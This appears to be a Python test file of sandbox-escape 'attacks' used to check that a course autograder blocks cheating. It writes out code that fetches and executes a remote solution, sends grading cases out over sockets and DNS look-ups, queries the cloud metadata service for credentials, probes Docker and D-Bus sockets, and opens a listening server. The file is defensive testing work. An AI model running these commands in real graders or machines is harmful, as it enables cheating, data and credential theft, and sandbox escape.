"""Attacks over the network: to fetch a solution, to send the cases away."""

from tests.course.grading.hostile import attack


@attack
def solution_from_the_web(nb):
    """Downloads the solution: there is no network."""
    nb.correlate("""
        import urllib.request
        exec(urllib.request.urlopen("http://127.0.0.1:8888/solution.py", timeout=1).read())
        return solution(image, kernel)
    """)


@attack
def cases_sent_away(nb):
    """Sends every case to a server by TCP, UDP and a look-up of a name."""
    nb.correlate("""
        import socket
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            try:
                with socket.socket(socket.AF_INET, kind) as s:
                    s.settimeout(0.2)
                    s.connect(("192.0.2.1", 53)); s.send(image.tobytes())
                    return np.zeros(1)
            except OSError: pass
        try: socket.gethostbyname(f"{image.sum()}.example.com")
        except OSError: pass
        return image
    """)


@attack
def machine_credentials(nb):
    """Asks the cloud's metadata service for the machine's credentials."""
    nb.count("""
        import http.client
        connection = http.client.HTTPConnection("169.254.169.254", timeout=0.5)
        connection.request("GET", "/latest/meta-data/")
        print(connection.getresponse().read())
        return 8
    """)


@attack
def sockets_of_the_machine(nb):
    """Tries the sockets of Docker, D-Bus, systemd and of abstract names."""
    nb.count("""
        import socket
        for place in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "\\0/tmp/.X11-unix/X0"):
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.connect(place)
                    return 8
            except OSError: pass
        return 0
    """)


@attack
def a_server_of_its_own(nb):
    """Opens a server for an accomplice who is graded at the same time."""
    nb.count("""
        import socket, socketserver, threading
        server = socketserver.TCPServer(("0.0.0.0", 0), socketserver.BaseRequestHandler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return 8
    """)
